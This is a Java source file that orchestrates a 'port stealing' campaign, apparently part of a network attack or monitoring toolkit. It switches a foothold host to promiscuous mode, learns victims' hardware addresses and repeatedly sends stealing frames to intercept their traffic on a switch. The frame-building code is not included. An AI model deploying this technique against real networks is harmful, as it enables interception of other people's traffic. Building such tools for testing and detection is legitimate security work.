package cofferdam.attacks.network;

import cofferdam.attacks.Attack;
import cofferdam.monitor.address.Ipv4Address;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** One run of {@link PortStealing}. */
final class StealingCampaign implements Attack.Campaign {

    /** How many stealing frames for each victim make the first burst. */
    static final int FIRST_BURST = 10;

    private final Foothold foothold;
    private final AddressResolution victims;
    private final int frames;
    private final Duration interval;
    private final List<StolenPort> ports = new ArrayList<>();
    private boolean ready;
    private boolean stopping;

    StealingCampaign(Foothold foothold, int frames, Duration interval) {
        this.foothold = foothold;
        this.frames = frames;
        this.interval = interval;
        victims = new AddressResolution(foothold);
    }

    /** Promiscuous, because stolen frames still have the victim's hardware address. */
    void begin() {
        foothold.listen(this::heard);
        foothold.becomePromiscuous();
        victims.begin(this::stealAll);
    }

    @Override
    public boolean ready() {
        return ready;
    }

    @Override
    public void stop() {
        if (stopping) {
            return;
        }
        stopping = true;
        foothold.agenda().clear();
        ports.forEach(StolenPort::giveBack);
        finishWhenReturned();
    }

    @Override
    public boolean stopped() {
        return foothold.closed();
    }

    private void heard(byte[] frame) {
        if (ports.isEmpty()) {
            victims.heard(frame);
            return;
        }
        ports.forEach(port -> port.heard(frame));
    }

    private void stealAll() {
        for (Ipv4Address victim : foothold.victims()) {
            victims.of(victim)
                    .ifPresent(mac -> ports.add(
                            new StolenPort(foothold, victim, mac, this::finishWhenReturned)));
        }
        if (ports.isEmpty()) {
            foothold.report("nothing to steal without the address of any victim");
            ready = true;
            return;
        }
        foothold.agenda().repeat(interval, frames, this::round, this::spent);
    }

    private void round(int index) {
        if (index == FIRST_BURST) {
            ready = true;
        }
        ports.forEach(StolenPort::steal);
    }

    private void spent() {
        ready = true;
        foothold.report("steals no more: all " + frames + " frames for each victim are sent");
    }

    private void finishWhenReturned() {
        if (!stopped() && stopping && ports.stream().allMatch(StolenPort::returned)) {
            ports.forEach(port -> foothold.report(port.toString()));
            foothold.close();
        }
    }
}
